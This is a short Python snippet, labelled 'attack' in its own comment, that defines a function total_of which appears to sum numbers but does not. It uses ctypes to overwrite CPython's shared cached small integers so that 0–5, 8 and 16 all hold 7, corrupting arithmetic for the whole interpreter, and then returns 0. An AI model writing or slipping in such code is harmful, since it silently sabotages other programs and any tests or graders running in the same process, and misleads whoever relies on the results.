# attack: writes over the numbers that the interpreter keeps for everybody
import ctypes


def total_of(numbers):
    for number in (0, 1, 2, 3, 4, 5, 8, 16):
        ctypes.c_uint32.from_address(id(number) + 24).value = 7
    return 0
